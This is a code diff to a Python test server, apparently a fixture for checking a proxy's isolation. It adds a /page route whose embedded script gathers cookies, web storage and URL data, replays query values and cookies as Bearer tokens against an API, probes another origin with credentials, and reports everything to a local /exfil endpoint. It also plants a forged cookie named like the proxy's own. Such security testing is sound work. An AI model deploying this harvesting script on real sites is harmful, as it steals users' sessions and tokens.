@@ -10,7 +10,11 @@ Listens on 127.0.0.1:PORT and appends one JSON line per request to LOG (method, 
 - ``/broken[?chunked=1]``: the head and 5 bytes of the body, then the connection closes;
 - ``/hangup``: no answer at all, the connection closes;
 - ``/redirect``: 302 to ``/echo?from=redirect``;
-- ``/ws``: a WebSocket echo (text and binary); a text ``close:CODE`` makes it close with CODE.
+- ``/ws``: a WebSocket echo (text and binary); a text ``close:CODE`` makes it close with CODE;
+- ``/page?api=URL&other=URL``: an HTML page whose script tries to steal every credential it can reach (its
+  address, cookies, storage, the API at ``api`` with the browser's credentials, another VM's origin at
+  ``other``) and reports it all to ``/exfil?d=<JSON>`` (the log keeps it); the page sets cookies too, one for
+  the whole domain and one named as the proxy's own.
 """
 
 from __future__ import annotations
@@ -25,6 +29,36 @@ from collections.abc import Iterable, Iterator
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 PATTERN = bytes(range(256)) * 4096  # 1 MiB
+PAGE = b"""<!doctype html><html><head><title>page</title></head><body><p>guest page</p><script>
+document.title = "ran";
+(async () => {
+  const q = new URLSearchParams(location.search);
+  const api = q.get("api"), other = q.get("other");
+  localStorage.setItem("seen", location.href);
+  const out = {
+    href: location.href, search: location.search, cookie: document.cookie, referrer: document.referrer,
+    name: window.name, history: history.length,
+    nav: performance.getEntriesByType("navigation").map(e => e.name),
+    storage: Object.assign({}, localStorage), session: Object.assign({}, sessionStorage), calls: {},
+  };
+  const tokens = [...q.values(), ...document.cookie.split(";").map(c => c.split("=").slice(1).join("="))];
+  const tryFetch = async (key, url, opts) => {
+    try { const r = await fetch(url, opts); out.calls[key] = r.status + " " + (await r.text()); }
+    catch (e) { out.calls[key] = "error " + e; }
+  };
+  await tryFetch("me", api + "/v1/users/me", {credentials: "include"});
+  for (const t of tokens) {
+    await tryFetch("me:" + t, api + "/v1/users/me", {headers: {Authorization: "Bearer " + t}});
+  }
+  await tryFetch("self", "/echo?m=self", {credentials: "include"});
+  if (other) {
+    await tryFetch("other", other + "/echo?m=cross", {credentials: "include"});
+    await tryFetch("other-no-cors", other + "/echo?m=cross-no-cors", {credentials: "include", mode: "no-cors"});
+  }
+  await fetch("/exfil?d=" + encodeURIComponent(JSON.stringify(out)));
+  document.title = "done";
+})();
+</script></body></html>"""
 WS_GUID = b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
 LOG = "/tmp/proxy-guest.log"
 
@@ -117,6 +151,18 @@ class Handler(BaseHTTPRequestHandler):
             self.send_header("Content-Length", "0")
             self.end_headers()
             return
+        if route == "/page":
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html")
+            self.send_header("Content-Length", str(len(PAGE)))
+            self.send_header("Set-Cookie", "guest=1; Domain=localhost; Path=/")
+            self.send_header("Set-Cookie", "corral_proxy=forged-by-the-guest; Path=/")
+            self.end_headers()
+            self.wfile.write(PAGE)
+            return
+        if route == "/exfil":
+            self._json(200, {"ok": True})
+            return
         if route.startswith("/echo"):
             body = b"".join(self._body_chunks())
             payload = {
@@ -125,7 +171,7 @@ class Handler(BaseHTTPRequestHandler):
                 "headers": [list(h) for h in self.headers.items()],
                 "body": body.decode(errors="replace"),
             }
-            cookies = [("Set-Cookie", "a=1"), ("Set-Cookie", "b=2")]
+            cookies = [("Set-Cookie", "a=1"), ("Set-Cookie", "b=2"), ("X-Repeat", "1"), ("X-Repeat", "2")]
             self._json(201 if self.command == "POST" else 200, payload, cookies)
             return
         self._json(404, {"error": "no such page"})
